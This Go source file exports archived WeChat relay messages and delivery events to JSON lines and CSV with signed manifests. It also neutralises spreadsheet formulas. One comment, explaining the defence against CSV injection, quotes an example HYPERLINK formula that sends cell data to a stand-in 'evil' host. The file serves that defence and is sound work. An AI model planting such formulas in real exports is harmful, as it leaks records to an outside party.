package export

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"mime"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/wechat-relay/wechat-relay/relay"
)

// Format is the manifest's format field.
const Format = "wechat-relay-export/v1"

// Manifest is manifest.json.
type Manifest struct {
	Format     string            `json:"format"` // Format
	ExportedBy string            `json:"exported_by"`
	ExportedAt time.Time         `json:"exported_at"`
	Query      relay.SearchQuery `json:"query"`
	QueryText  string            `json:"query_text"`
	Version    string            `json:"relay_version"`
	Counts     Counts            `json:"counts"`
	Files      []File            `json:"files"`
	Seals      []Seal            `json:"seals"`
	// Unsealed lists exported rows (messages and events) that carry no
	// batch id, or whose batch id names no stored seal.
	Unsealed []string `json:"unsealed"`
}

// Counts counts what an export holds.
type Counts struct {
	Messages      int `json:"messages"`
	Conversations int `json:"conversations"`
	Events        int `json:"events"`
	Media         int `json:"media"`         // media files written
	MediaMissing  int `json:"media_missing"` // media messages whose content is not archived
	Seals         int `json:"seals"`
	Profiles      int `json:"profiles,omitempty"` // versions of client profiles in profiles.jsonl
}

// File is one file of an export, with its hash.
type File struct {
	Name   string `json:"name"`
	SHA256 string `json:"sha256"`
	Size   int64  `json:"size"`
}

// Seal is a seal covering exported rows.
type Seal struct {
	ID     string `json:"id"`
	Hash   string `json:"hash"`
	Root   string `json:"root"`
	Prev   string `json:"prev"`
	Writer string `json:"writer"`
	Stream string `json:"stream"`
	Number uint64 `json:"number"`
	Count  int    `json:"count"`
	// Rows is how many of the exported rows it covers.
	Rows int `json:"rows"`
	// KeyID and Signature are the writer's signature of Hash
	// (docs/tamper-evidence.md), empty for an unsigned seal: a recipient
	// with the public key checks the seal without the archive.
	KeyID     string `json:"key_id,omitempty"`
	Signature string `json:"signature,omitempty"`
}

// Message is one line of messages.jsonl.
type Message struct {
	ID          string            `json:"id"`
	Account     string            `json:"account"`
	Client      string            `json:"client"`
	Conv        string            `json:"conv"`
	Seq         uint64            `json:"seq"`
	Direction   string            `json:"direction"`
	Kind        string            `json:"kind"`
	WxMsgID     string            `json:"wx_msg_id"`
	Event       string            `json:"event"`
	EventKey    string            `json:"event_key"`
	Text        string            `json:"text"`
	MediaID     string            `json:"media_id"`
	Attrs       map[string]string `json:"attrs"`
	Raw         []byte            `json:"raw"` // base64
	CreatedAt   string            `json:"created_at"`
	AcceptedAt  string            `json:"accepted_at"`
	Employee    string            `json:"employee"`
	Hash        string            `json:"hash"`
	BatchID     string            `json:"batch_id"`
	MediaFile   string            `json:"media_file,omitempty"`
	MediaSHA256 string            `json:"media_sha256,omitempty"`
}

// Event is one line of events.jsonl.
type Event struct {
	ID        string `json:"id"`
	MessageID string `json:"message_id"`
	Account   string `json:"account"`
	Conv      string `json:"conv"`
	State     string `json:"state"`
	ErrCode   int    `json:"errcode"`
	ErrMsg    string `json:"errmsg"`
	At        string `json:"at"`
	Hash      string `json:"hash"`
	BatchID   string `json:"batch_id"`
}

// newMessage is m as a line of messages.jsonl, with its media file.
func newMessage(m relay.Message, mediaFile, mediaSHA256 string) Message {
	raw := m.Raw
	if raw == nil {
		raw = []byte{}
	}
	attrs := m.Attrs
	if attrs == nil {
		attrs = map[string]string{}
	}
	return Message{
		ID: m.ID, Account: m.Account, Client: m.Client, Conv: string(m.Conv), Seq: m.Seq,
		Direction: string(m.Direction), Kind: string(m.Kind), WxMsgID: m.WxMsgID, Event: m.Event, EventKey: m.EventKey,
		Text: m.Text, MediaID: m.MediaID, Attrs: attrs, Raw: raw,
		CreatedAt: formatTime(m.CreatedAt), AcceptedAt: formatTime(m.AcceptedAt), Employee: m.Employee,
		Hash: m.Hash, BatchID: m.BatchID, MediaFile: mediaFile, MediaSHA256: mediaSHA256,
	}
}

// newEvent is e as a line of events.jsonl.
func newEvent(e relay.DeliveryEvent) Event {
	return Event{
		ID: e.ID, MessageID: e.MessageID, Account: e.Account, Conv: string(e.Conv), State: string(e.State),
		ErrCode: e.ErrCode, ErrMsg: e.ErrMsg, At: formatTime(e.At), Hash: e.Hash, BatchID: e.BatchID,
	}
}

func formatTime(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format(time.RFC3339Nano)
}

// writeJSONLines writes one JSON object per line, HTML unescaped.
func writeJSONLines[T any](w io.Writer, rows []T) error {
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	for _, r := range rows {
		if err := enc.Encode(r); err != nil {
			return err
		}
	}
	return nil
}

// messageCSVHeader is the header row of messages.csv.
var messageCSVHeader = []string{
	"id", "account", "client", "conv", "seq", "direction", "kind", "wx_msg_id", "event", "event_key",
	"text", "media_id", "attrs", "raw_base64", "created_at", "accepted_at", "employee", "hash", "batch_id",
	"media_file", "media_sha256",
}

func writeMessagesCSV(w io.Writer, msgs []Message) error {
	// A UTF-8 byte order mark, so that spreadsheet programs read the
	// Chinese text as UTF-8.
	if _, err := io.WriteString(w, "\uFEFF"); err != nil {
		return err
	}
	cw := csv.NewWriter(w)
	if err := cw.Write(messageCSVHeader); err != nil {
		return err
	}
	for _, m := range msgs {
		attrs, err := json.Marshal(m.Attrs)
		if err != nil {
			return err
		}
		raw, err := json.Marshal(m.Raw) // a JSON string of base64
		if err != nil {
			return err
		}
		rawB64, _ := strconv.Unquote(string(raw))
		if err := cw.Write(spreadsheetSafe([]string{
			m.ID, m.Account, m.Client, m.Conv, strconv.FormatUint(m.Seq, 10), m.Direction, m.Kind, m.WxMsgID, m.Event, m.EventKey,
			m.Text, m.MediaID, string(attrs), rawB64, m.CreatedAt, m.AcceptedAt, m.Employee, m.Hash, m.BatchID,
			m.MediaFile, m.MediaSHA256,
		})); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// spreadsheetSafe neutralises cells a spreadsheet program would run as
// a formula (CSV injection: a client who writes
// =HYPERLINK("https://evil/?"&A2,"…") must not get a live link, or a
// formula, into the compliance officer's Excel). A cell beginning with
// = + - @, a tab or a carriage return gets a leading apostrophe, which
// spreadsheets take as "text follows"; plain numbers such as errcode -1
// are left alone. The CSV files are for reading; messages.jsonl and the
// transcript keep every text exactly as archived. cells is changed in
// place and returned.
func spreadsheetSafe(cells []string) []string {
	for i, c := range cells {
		if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) || isNumber(c) {
			continue
		}
		cells[i] = "'" + c
	}
	return cells
}

// SpreadsheetSafe is spreadsheetSafe for the other CSV writers of the
// relay (the reports), so that every CSV it writes is neutralised alike.
func SpreadsheetSafe(cells []string) []string { return spreadsheetSafe(cells) }

// isNumber reports whether s is an optionally negative decimal number.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, dot := strings.Cut(s, ".")
	digits := func(t string) bool {
		return t != "" && strings.Trim(t, "0123456789") == ""
	}
	return digits(whole) && (!dot || digits(frac))
}

func writeEventsCSV(w io.Writer, evs []Event) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{"id", "message_id", "account", "conv", "state", "errcode", "errmsg", "at", "hash", "batch_id"}); err != nil {
		return err
	}
	for _, e := range evs {
		if err := cw.Write(spreadsheetSafe([]string{e.ID, e.MessageID, e.Account, e.Conv, e.State, strconv.Itoa(e.ErrCode), e.ErrMsg, e.At, e.Hash, e.BatchID})); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// mediaExt is the file extension of md: from its file name, else its
// content type, else the message kind.
func mediaExt(md relay.Media, kind relay.Kind) string {
	if ext := filepath.Ext(md.FileName); ext != "" && len(ext) <= 10 && safeExt(ext) {
		return strings.ToLower(ext)
	}
	if ct, _, err := mime.ParseMediaType(md.ContentType); err == nil {
		switch ct {
		case "image/jpeg":
			return ".jpg"
		case "image/png":
			return ".png"
		case "image/gif":
			return ".gif"
		case "audio/amr":
			return ".amr"
		case "audio/mpeg":
			return ".mp3"
		case "video/mp4":
			return ".mp4"
		case "application/pdf":
			return ".pdf"
		}
		if exts, _ := mime.ExtensionsByType(ct); len(exts) > 0 {
			return exts[0]
		}
	}
	switch kind {
	case relay.KindImage:
		return ".jpg"
	case relay.KindVoice:
		return ".amr"
	case relay.KindVideo, relay.KindShortVideo:
		return ".mp4"
	}
	return ".bin"
}

func safeExt(ext string) bool {
	for _, r := range ext[1:] {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9') {
			return false
		}
	}
	return len(ext) > 1
}
